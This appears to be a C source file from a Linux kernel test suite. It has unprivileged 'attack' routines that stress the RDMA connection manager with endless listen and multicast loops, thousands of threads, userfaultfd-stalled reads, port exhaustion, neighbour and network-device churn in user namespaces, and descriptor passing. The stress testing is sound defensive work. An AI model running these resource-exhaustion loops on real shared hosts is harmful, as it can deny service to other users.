// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/* What ANNA does. All of it is permitted to any user. */
#include <linux/userfaultfd.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>

#include "attacks.h"
#include "cm.h"
#include "stock_cm.h"
#include "tasks.h"

#define PAGE 4096
#define MANY_THREADS 200
#define MORE_THREADS 1000
#define READERS 10000
#define REQUESTS 3000
#define MANY_REQUESTS 5000
#define RESOLUTIONS 30000
#define LISTENERS 5000
#define CHANNELS 16
#define IDS_OF_CHANNEL 64
#define LONG_MS 600000

/* What threads share. */
static struct rdma_event_channel *shared;
static struct rdma_cm_id *victims_ids[CHANNELS * IDS_OF_CHANNEL];

static void be_anna(void)
{
	MUST(setgid(ANNA));
	MUST(setuid(ANNA));
}

static void go_on(void)
{
	for (;;)
		pause();
}

static void run_threads(int ready, int count, void *(*run)(void *arg))
{
	pthread_t *threads = MUST(calloc(count, sizeof(*threads)) ?: (void *)-1);
	pthread_attr_t small;

	busy_begins(ready);
	EXPECT_EQ(pthread_attr_init(&small), 0);
	EXPECT_EQ(pthread_attr_setstacksize(&small, 65536), 0);
	for (int i = 0; i < count; i++) {
		int ret = pthread_create(&threads[i], &small, run, NULL);

		if (ret) {
			ktap_note("%d threads: %s", i, strerror(ret));
			break;
		}
	}
	go_on();
}

static void *listen_without_end(void *arg)
{
	(void)arg;
	for (;;) {
		struct rdma_cm_id *id = get_cm_id(shared);

		rdma_listen(id, 0);
		rdma_destroy_id(id);
	}
	return NULL;
}

void attack_listens(int ready)
{
	be_anna();
	shared = get_channel();
	run_threads(ready, MANY_THREADS, listen_without_end);
}

void attack_listens_of_many(int ready)
{
	be_anna();
	shared = get_channel();
	run_threads(ready, MORE_THREADS, listen_without_end);
}

static void *join_without_end(void *arg)
{
	struct rdma_cm_id *id = get_ud_cm_id(shared);

	(void)arg;
	for (;;) {
		rdma_join_multicast(id, address_of(GROUP, 0), NULL);
		rdma_leave_multicast(id, address_of(GROUP, 0));
	}
	return NULL;
}

void attack_joins(int ready)
{
	be_anna();
	shared = get_channel();
	run_threads(ready, MANY_THREADS, join_without_end);
}

/* Memory that does not come, as that of a file of FUSE. */
static void *get_missing_page(void)
{
	struct uffdio_api api = { .api = UFFD_API };
	struct uffdio_register reg = { .range.len = PAGE, .mode = UFFDIO_REGISTER_MODE_MISSING };
	int uffd = MUST(syscall(SYS_userfaultfd, O_CLOEXEC));
	void *page = MUST(mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1,
			       0));

	MUST(ioctl(uffd, UFFDIO_API, &api));
	reg.range.start = (uintptr_t)page;
	MUST(ioctl(uffd, UFFDIO_REGISTER, &reg));
	return page;
}

/* librdmacm reads events into memory of its own. */
static void *read_shared(void *page)
{
	if (stack_is_stock)
		EXPECT_EQ(stock_get_event(shared->fd, page), 0);
	else
		MUST(read(shared->fd, page, PAGE));
	ktap_fail(__FILE__, __LINE__, "the page has come");
}

/* One reader that does not return, and then more events of the channel. */
void attack_reader(int ready)
{
	struct rdma_cm_id *ids[2];
	void *page;

	/* Some hosts do not permit userfaultfd to all users, but FUSE. */
	page = get_missing_page();
	be_anna();
	shared = get_channel();
	for (int i = 0; i < 2; i++)
		ids[i] = get_cm_id(shared);
	MUST(rdma_resolve_addr(ids[0], NULL, address_of(HERE, 7471), LONG_MS));
	start_sleeper(read_shared, page);
	MUST(rdma_resolve_addr(ids[1], NULL, address_of(HERE, 7471), LONG_MS));
	busy_begins(ready);
	go_on();
}

static void *get_events(void *arg)
{
	struct rdma_cm_event *event;

	(void)arg;
	while (!rdma_get_cm_event(shared, &event))
		rdma_ack_cm_event(event);
	return NULL;
}

static void *resolve_without_end(void *arg)
{
	(void)arg;
	for (;;) {
		struct rdma_cm_id *id = get_cm_id(shared);

		rdma_resolve_addr(id, NULL, address_of(HERE, 7471), 2000);
		usleep(1000);
		rdma_destroy_id(id);
	}
	return NULL;
}

/* Many threads that wait for the events of one channel. */
void attack_readers(int ready)
{
	pthread_t thread;

	be_anna();
	shared = get_channel();
	EXPECT_EQ(pthread_create(&thread, NULL, resolve_without_end, NULL), 0);
	run_threads(ready, READERS, get_events);
}

static void send_requests(int count)
{
	struct rdma_event_channel *clients;
	uint16_t port;

	port = ntohs(rdma_get_src_port(get_listener(get_channel(), 1)));
	clients = get_channel();
	for (int i = 0; i < count; i++) {
		struct rdma_cm_id *id = get_cm_id(clients);

		find(clients, id, port);
		request(id);
	}
}

/* Requests to a service that does not answer. */
void attack_requests(int ready)
{
	be_anna();
	send_requests(REQUESTS);
	busy_begins(ready);
	go_on();
}

void attack_many_requests(int ready)
{
	be_anna();
	send_requests(MANY_REQUESTS);
	busy_begins(ready);
	go_on();
}

/* Requests that are withdrawn at once. */
void attack_withdrawn(int ready)
{
	struct rdma_event_channel *clients;
	uint16_t port;

	be_anna();
	port = ntohs(rdma_get_src_port(get_listener(get_channel(), 1)));
	clients = get_channel();
	busy_begins(ready);
	for (;;) {
		struct rdma_cm_id *id = get_cm_id(clients);

		find(clients, id, port);
		request(id);
		rdma_destroy_id(id);
	}
}

/* Resolutions to a neighbour that does not answer, as many as are possible. */
static void resolve_in_vain(void)
{
	struct rdma_event_channel *channel = get_channel();

	for (int i = 0; i < RESOLUTIONS; i++) {
		if (rdma_resolve_addr(get_cm_id(channel), NULL, address_of(NOBODY, 7471),
				      LONG_MS)) {
			ktap_note("%d resolutions: %m", i);
			return;
		}
	}
	ktap_note("%d resolutions", RESOLUTIONS);
}

void attack_resolutions(int ready)
{
	be_anna();
	resolve_in_vain();
	busy_begins(ready);
	go_on();
}

/* The same, on a host whose neighbours change all the time. */
void attack_neighbours(int ready)
{
	FILE *ip = popen("ip -batch - >/dev/null", "w");

	EXPECT(ip);
	be_anna();
	resolve_in_vain();
	busy_begins(ready);
	for (;;)
		fputs("neigh replace 10.7.0.98 lladdr 02:00:00:00:00:98 dev v0\n"
		      "neigh del 10.7.0.98 dev v0\n", ip);
}

/* Ids for one service, until the host has no port for more of them. */
void attack_ports(int ready)
{
	struct rdma_event_channel *channel;
	uint16_t port;

	be_anna();
	port = ntohs(rdma_get_src_port(get_listener(get_channel(), 1)));
	channel = get_channel();
	for (int i = 0; i < RESOLUTIONS; i++) {
		if (rdma_resolve_addr(get_cm_id(channel), NULL, address_of(HERE, port), LONG_MS)) {
			ktap_note("%d ids: %m", i);
			break;
		}
		await(channel, RDMA_CM_EVENT_ADDR_RESOLVED);
	}
	meter->port = port;
	busy_begins(ready);
	go_on();
}

/* Listeners on all addresses, and a network device that comes and goes, in namespaces of ANNA. */
void attack_links(int ready)
{
	FILE *ip;
	int map;

	be_anna();
	if (unshare(CLONE_NEWUSER | CLONE_NEWNET))
		ktap_skip("no user namespaces: %m");
	MUST(prctl(PR_SET_DUMPABLE, 1));	/* or the file belongs to root */
	map = MUST(open("/proc/self/uid_map", O_WRONLY));
	MUST(dprintf(map, "0 %u 1", ANNA));
	MUST(close(map));
	shared = get_channel();
	for (int i = 0; i < LISTENERS; i++)
		MUST(rdma_listen(get_cm_id(shared), 0));
	ip = popen("ip -batch - >/dev/null", "w");
	EXPECT(ip);
	busy_begins(ready);
	for (;;)
		fputs("link add rca0 type dummy\nlink del rca0\n", ip);
}

static void *resolve_those(void *arg)
{
	(void)arg;
	for (;;)
		for (int i = 0; i < CHANNELS * IDS_OF_CHANNEL; i++)
			rdma_resolve_addr(victims_ids[i], NULL, address_of(NOBODY, 7471), LONG_MS);
	return NULL;
}

static void send_descriptor(int fd)
{
	union {
		char space[CMSG_SPACE(sizeof(int))];
		struct cmsghdr header;
	} control = { .header = { .cmsg_len = CMSG_LEN(sizeof(int)), .cmsg_level = SOL_SOCKET,
				  .cmsg_type = SCM_RIGHTS } };
	struct msghdr msg = {
		.msg_iov = &(struct iovec) { "", 1 }, .msg_iovlen = 1,
		.msg_control = control.space, .msg_controllen = sizeof(control.space),
	};

	memcpy(CMSG_DATA(&control.header), &fd, sizeof(fd));
	MUST(sendmsg(meter->descriptors[0], &msg, 0));
	MUST(close(fd));
}

/* Channels that ANNA passes on, while her threads go on with their ids. */
void attack_descriptors(int ready)
{
	struct rdma_event_channel *channels[CHANNELS];

	be_anna();
	for (int i = 0; i < CHANNELS; i++) {
		channels[i] = get_channel();
		for (int j = 0; j < IDS_OF_CHANNEL; j++)
			victims_ids[i * IDS_OF_CHANNEL + j] = get_cm_id(channels[i]);
	}
	for (int i = 0; i < CHANNELS; i++)
		send_descriptor(channels[i]->fd);
	run_threads(ready, MANY_THREADS, resolve_those);
}
